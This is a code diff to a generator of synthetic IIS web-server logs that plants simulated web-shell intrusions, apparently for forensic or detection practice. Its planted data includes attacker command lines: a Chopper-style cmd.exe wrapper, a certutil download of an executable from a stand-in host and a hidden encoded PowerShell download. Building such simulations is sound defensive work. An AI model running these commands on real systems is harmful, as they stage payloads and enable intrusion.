@@ -740,23 +740,26 @@ let stampSecond = NaN;
 let stampDate = "";
 let stampTime = "";
 
-function lineOf(server: ServerSpec, site: SiteSpec, q: Req): string {
+/**
+ * Appends one data line (with its CRLF) to `out` as separate values: joining the whole file's
+ * values once is several times faster than building each line as a string (no rope garbage).
+ */
+function pushLine(out: string[], server: ServerSpec, site: SiteSpec, q: Req): void {
   if (q.t !== stampSecond) {
     const iso = new Date(q.t).toISOString();
     stampSecond = q.t;
     stampDate = iso.slice(0, 10);
     stampTime = iso.slice(11, 19);
   }
-  const date = stampDate;
-  const time = stampTime;
-  switch (server.layout) {
-    case "full":
-      return `${date} ${time} ${site.name} ${server.host} ${server.serverIp} ${q.method} ${q.stem} ${q.query} ${q.port} ${q.user} ${q.ip} ${q.ver} ${q.ua} ${q.cookie} ${q.referer} ${site.hostHeader} ${q.status} ${q.sub} ${q.win32} ${q.scBytes} ${q.csBytes} ${q.taken}`;
-    case "named":
-      return `${date} ${time} ${site.name} ${server.host} ${server.serverIp} ${q.method} ${q.stem} ${q.query} ${q.port} ${q.user} ${q.ip} ${q.ua} ${q.referer} ${q.status} ${q.sub} ${q.win32} ${q.taken}`;
-    case "default":
-      return `${date} ${time} ${server.serverIp} ${q.method} ${q.stem} ${q.query} ${q.port} ${q.user} ${q.ip} ${q.ua} ${q.referer} ${q.status} ${q.sub} ${q.win32} ${q.taken}`;
-  }
+  const layout = server.layout;
+  out.push(stampDate, " ", stampTime, " ");
+  if (layout !== "default") out.push(site.name, " ", server.host, " ");
+  out.push(server.serverIp, " ", q.method, " ", q.stem, " ", q.query, " ", String(q.port), " ", q.user, " ", q.ip, " ");
+  if (layout === "full") out.push(q.ver, " ", q.ua, " ", q.cookie, " ", q.referer, " ", site.hostHeader, " ");
+  else out.push(q.ua, " ", q.referer, " ");
+  out.push(String(q.status), " ", String(q.sub), " ", String(q.win32), " ");
+  if (layout === "full") out.push(String(q.scBytes), " ", String(q.csBytes), " ");
+  out.push(String(q.taken), "\r\n");
 }
 
 function fieldsOf(layout: LogLayout): string {
@@ -1035,7 +1038,9 @@ function encoded(script: string): string {
   return Buffer.from(script, "utf16le").toString("base64");
 }
 
-function commandLines(r: Rng, dir: string): { image: "cmd.exe" | "powershell.exe"; line: string; short: string }[] {
+/** `short`: the command as a GET-style shell takes it in its query string. */
+function commandLines(r: Rng, dir: string): { image: "cmd.exe" | "powershell.exe"; line: string; short?: string }[] {
+  const tool = r.token(6);
   const chopper = (c: string) => `cmd.exe /c cd /d "${dir}"&${c}&echo [S]&cd&echo [E]`;
   const all = [
     { image: "cmd.exe" as const, line: chopper("whoami /all"), short: "whoami /all" },
@@ -1052,23 +1057,20 @@ function commandLines(r: Rng, dir: string): { image: "cmd.exe" | "powershell.exe
     { image: "cmd.exe" as const, line: `cmd.exe /c dir "${dir}\\.."`, short: "dir .." },
     {
       image: "cmd.exe" as const,
-      line: `cmd.exe /c certutil -urlcache -split -f http://203.0.113.50/${r.token(6)}.exe C:\\Windows\\Temp\\svc.exe`,
-      short: "certutil",
+      line: `cmd.exe /c certutil -urlcache -split -f http://203.0.113.50/${tool}.exe C:\\Windows\\Temp\\svc.exe`,
+      short: `certutil -urlcache -split -f http://203.0.113.50/${tool}.exe C:\\Windows\\Temp\\svc.exe`,
     },
     {
       image: "powershell.exe" as const,
       line: `powershell.exe -nop -w hidden -enc ${encoded("Get-ChildItem C:\\Users | Select-Object Name")}`,
-      short: "ps users",
     },
     {
       image: "powershell.exe" as const,
       line: `powershell.exe -nop -c "Get-WmiObject Win32_Process | Select Name,ProcessId,CommandLine"`,
-      short: "ps process list",
     },
     {
       image: "powershell.exe" as const,
       line: `powershell.exe -nop -enc ${encoded("[Net.ServicePointManager]::SecurityProtocol='Tls12';Invoke-WebRequest http://203.0.113.50/a.ps1 -OutFile $env:TEMP\\a.ps1")}`,
-      short: "ps download",
     },
   ];
   // Recon first (the order attackers follow), then the rest shuffled.
@@ -1470,7 +1472,6 @@ export function generateScenario(options: ScenarioOptions): Scenario {
   }[] = [];
   const firstFrom = start + 5 * HOUR;
   const lastUpload = end - 7 * HOUR;
-  const profiles: ActorProfile[] = [];
   for (let i = 0; i < opts.intrusions; i++) {
     const server = logged[i % logged.length] as ServerSpec;
     const site = (i % 3 === 2 && server.sites.length > 1 ? server.sites[1] : server.sites[0]) as SiteSpec;
@@ -1481,10 +1482,9 @@ export function generateScenario(options: ScenarioOptions): Scenario {
       const slot = (lastUpload - firstFrom) / opts.intrusions;
       uploadAt = firstFrom + slot * i + r.next() * slot * 0.85;
     }
-    profiles.push(actorOf(i));
     plans.push({
       actor: i,
-      profile: profiles[i] as ActorProfile,
+      profile: actorOf(i),
       server,
       site,
       uploadAt: floorSec(uploadAt),
@@ -1512,7 +1512,6 @@ export function generateScenario(options: ScenarioOptions): Scenario {
 
   plans.forEach((plan, index) => {
     const s = siteOf(plan.server.host, plan.site.name);
-    const bg = backgrounds.get(s) as Background;
     const content = s.content;
     const a: Attacker = { ip: plan.profile.ip, userAgent: plan.profile.userAgent };
     const planted: PlantedRequest[] = [];
@@ -1546,7 +1545,7 @@ export function generateScenario(options: ScenarioOptions): Scenario {
     const uploadLogged = plan.uploadAt;
     const createdAt = r.chance(0.5)
       ? withMs(r, uploadLogged - r.int(1, 2) * SECOND)
-      : withMs(r, uploadLogged + r.int(1, 20) * SECOND);
+      : withMs(r, uploadLogged + r.int(1, 19) * SECOND);
 
     // Recon: first access, browsing, 404 probing, a look at the upload page.
     const firstAccess = uploadLogged - r.int(15 * 60, 4 * 3600) * SECOND;
@@ -1595,12 +1594,13 @@ export function generateScenario(options: ScenarioOptions): Scenario {
       const cmd = lines[lineIndex++ % lines.length]!;
       const extra = r.int(0, 9999);
       const logged = completionSecond(r, execAt);
-      const get = r.chance(0.25);
+      // Some shells take the command in the query string (cmd.exe ones here); most POST it.
+      const get = cmd.image === "cmd.exe" && r.chance(0.3);
       const q = attack(who, {
         t: logged,
         method: get ? "GET" : "POST",
         stem: shellLocation,
-        query: get ? `cmd=${encodeURIComponent(cmd.short)}` : "-",
+        query: get ? `cmd=${encodeURIComponent(cmd.short ?? cmd.line)}` : "-",
         csBytes: get ? r.int(300, 700) : r.int(600, 4000),
         scBytes: r.int(400, 20000),
         taken: logged - execAt + r.int(30, 400) + r.int(0, 999),
@@ -1867,7 +1867,7 @@ export function generateScenario(options: ScenarioOptions): Scenario {
       for (let k = i; k < j; k++) {
         const q = all[k] as Req;
         if (k === restartAt) parts.push(header(q.t));
-        parts.push(lineOf(s.server, s.site, q), "\r\n");
+        pushLine(parts, s.server, s.site, q);
       }
       const stamp = isoSeconds(dayStart).slice(2, 10).replace(/-/g, "");
       const file = `${dir}/u_ex${stamp}.log`;
